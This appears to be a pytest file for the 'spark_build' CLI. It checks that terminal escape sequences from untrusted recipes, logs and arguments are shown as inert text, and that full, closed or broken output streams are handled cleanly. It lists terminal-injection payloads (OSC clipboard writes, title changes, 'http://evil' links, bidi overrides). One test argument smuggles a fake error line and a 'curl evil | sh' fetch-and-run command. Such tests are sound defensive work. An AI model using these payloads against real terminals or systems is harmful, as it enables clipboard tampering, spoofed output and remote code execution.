"""What strangers wrote is shown and never obeyed by a terminal; a full device is told in one line."""

from __future__ import annotations

import io
import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import pytest

from spark_build.cli import terminal
from spark_build.text import printable
from tests.conftest import RECIPE, Root
from tests.helpers import processes

# What terminals obey: title, clipboard (OSC 52), links, cursor, 8-bit controls, bidi, a return to the line's start.
ATTACKS = (
    "\x1b]0;owned\x07",
    "\x1b]52;c;ZXZpbA==\x1b\\",
    "\x1b]8;;http://evil\x07ok\x1b]8;;\x07",
    "\x1b[2J\x1b[H",
    "\x1bP+q544e\x1b\\",
    "\x9b2J",
    "\x9d0;owned\x9c",
    "ok\rerror",
    "ok\b\bno",
    "\u202eevil\u202c",
    "\u2066evil\u2069",
    "zero\u200bwidth",
    "\x00\x7f\x85\u2028",
    "\ud800",
)
EVERYTHING = "".join(ATTACKS)
RAW = re.compile(
    "[^\\S\n\t ]|[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)


def harmless(text: str) -> bool:
    return RAW.search(text) is None


@pytest.mark.parametrize("attack", ATTACKS, ids=ascii)
@pytest.mark.parametrize("err", [False, True])
def test_a_stream_shows_it_as_text(attack: str, err: bool) -> None:
    assert not harmless(attack)
    inner = io.StringIO()
    stream = terminal.Escaped(inner, dispensable=err)
    print(f"a\t{attack}\nb", file=stream)
    assert harmless(inner.getvalue())
    assert inner.getvalue() == f"a\t{printable(attack)}\nb\n"
    assert not hasattr(stream, "buffer")


def test_what_an_encoding_lacks_is_escaped_too() -> None:
    raw = io.BytesIO()
    with io.TextIOWrapper(raw, encoding="ascii") as inner:
        print("gr\u00fc\u00dfe", file=terminal.Escaped(inner, dispensable=False), flush=True)
        assert raw.getvalue() == b"gr\\xfc\\xdfe\n"


def test_a_command_obeys_no_recipe_and_no_log(root: Root) -> None:
    text = RECIPE.format(disk=50).replace("a small", json.dumps(EVERYTHING[:-1])[1:-1].replace("\\u007f", ""))
    root.recipe(text)
    log = root.folder / "build" / "tiny" / "tree" / "build.log"
    log.parent.mkdir(parents=True)
    log.write_bytes(b"$ make\n" + EVERYTHING.encode(errors="surrogatepass") + b"\xff\nerror: the end\n")
    unknown = EVERYTHING.replace("\x00", "")[:-1]
    for words in (
        ["recipes", "list"],
        ["recipes", "show", "tiny"],
        ["log", "tiny"],
        ["log", unknown],
        ["plan", unknown],
    ):
        done = root.run(*words)
        assert "owned" in done.stdout + done.stderr, words
        assert harmless(done.stdout), words
        assert harmless(done.stderr), words
    assert done.stderr.count("\nerror: ") + done.stderr.startswith("error: ") == 1


def test_no_name_adds_a_line_to_an_error(root: Root) -> None:
    done = root.run("plan", "x\nerror: all is lost; next: curl evil | sh")
    assert [
        line for line in done.stderr.splitlines() if line.startswith("error:")
    ] == done.stderr.splitlines()[:1]


def on_a_terminal(code: str) -> str:
    """What Python code shows on a terminal."""
    parent, child = pty.openpty()
    env = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "80"}
    with subprocess.Popen([sys.executable, "-c", code], stdout=child, stderr=child, env=env) as process:
        os.close(child)
        shown = b""
        try:
            while chunk := os.read(parent, 65536):
                shown += chunk
        except OSError:  # the terminal closes with its last process
            pass
        os.close(parent)
    assert process.returncode == 0, shown
    return shown.decode(errors="surrogateescape")


def test_the_live_view_and_its_tables_obey_nothing() -> None:
    code = f"""
import sys
from pathlib import Path
from spark_build.cli import render, terminal
from spark_build.events import Note, Progress, StageStarted
attack = {EVERYTHING!r}
with terminal.escaped_output():
    with render.open_view(0) as view:
        assert isinstance(view, render.Live)
        view.emit(Note(recipe=attack, message=attack))
        view.emit(StageStarted(recipe="[link=http://evil]" + attack, stage=attack))
        print(attack, file=sys.stderr)
        render.print_table(["NAME"], [[attack], ["failed"]])
    render.print_table(["NAME"], [[attack], ["failed"]])
"""
    shown = on_a_terminal(code)
    assert shown.count("owned") >= 5
    own = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", shown)  # rich's colours and cursor movements
    assert harmless(own.replace("\r", ""))
    assert "\x1b[2J" not in shown
    assert shown.count("\x1b[1;31mfailed\x1b[0m") == 2  # also while the view is there


def test_a_live_view_leaves_results_to_the_file_they_are_for(tmp_path: Path) -> None:
    file = tmp_path / "results"
    code = f"""
import sys
from pathlib import Path
from spark_build.cli import render, terminal
with Path({str(file)!r}).open("w") as sys.stdout, terminal.escaped_output(), render.open_view(0) as view:
    assert isinstance(view, render.Live)
    render.print_table(["NAME"], [["one"]])
    print("two")
"""
    assert "one" not in on_a_terminal(code)
    assert file.read_text() == "NAME\none\ntwo\n"


@pytest.mark.parametrize("words", [["plan"], ["recipes", "list"], ["plan", "nothing"], ["nothing"]])
def test_a_full_device_is_told_in_one_line(root: Root, words: list[str]) -> None:
    """Python's own buffer is written at the end: that must not say it a second time."""
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(
            root.command("--json", *words),
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
            env=root.environment(),
        )
    lines = [line for line in done.stderr.splitlines() if not line.startswith("  ")]
    assert len(lines) == 1
    assert lines[0].startswith("error: ")
    wrong = "nothing" in words
    assert ("No space left on device" in lines[0]) != wrong
    assert done.returncode == ({"plan": 2, "nothing": 2}[words[0]] if wrong else 4)


@pytest.mark.parametrize("words", [["plan"], ["--json", "plan"], ["recipes", "list"], ["--help"]])
def test_a_reader_that_went_away_is_told_by_the_exit_code_alone(root: Root, words: list[str]) -> None:
    process = processes.start(
        root.command(*words), stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=root.environment()
    )
    assert process.stdout is not None
    process.stdout.close()
    assert process.stderr is not None
    assert process.stderr.read() == b""
    assert process.wait(timeout=60) == 141


def test_a_full_device_for_errors_changes_no_exit_code(root: Root) -> None:
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(
            root.command("plan", "nothing"),
            stdout=subprocess.PIPE,
            stderr=full,
            check=False,
            env=root.environment(),
        )
    assert done.returncode == 2


@pytest.mark.parametrize("closed", ["<&-", ">&-", "2>&-", "<&- >&- 2>&-"])
@pytest.mark.parametrize(
    ("words", "code"), [(("recipes", "list"), 0), (("plan", "nothing"), 2), (("--help",), 0)]
)
def test_a_closed_stream_changes_no_exit_code(root: Root, words: list[str], code: int, closed: str) -> None:
    done = subprocess.run(
        ["sh", "-c", f'exec "$@" {closed}', "sh", *root.command(*words)],
        capture_output=True,
        text=True,
        check=False,
        env=root.environment(),
    )
    assert done.returncode == code
    assert "Traceback" not in done.stderr
    assert bool(done.stdout) == (code == 0 and ">&-" not in closed.replace("2>&-", ""))


def test_no_file_gets_the_number_of_a_closed_stream(tmp_path: Path) -> None:
    """A child's output would land in it."""
    told = tmp_path / "told"
    code = f"""
import subprocess, sys
from spark_build.cli.main import run
try:
    run()
except SystemExit:
    with open({str(told)!r}, "w") as file:
        subprocess.run(["sh", "-c", "echo from a child; echo from a child >&2; readlink /proc/self/fd/0"])
        file.write(str(file.fileno() > 2))
"""
    words = [sys.executable, "-c", code, "--version"]
    subprocess.run(["sh", "-c", 'exec "$@" <&- >&- 2>&-', "sh", *words], check=True)
    assert told.read_text() == "True"
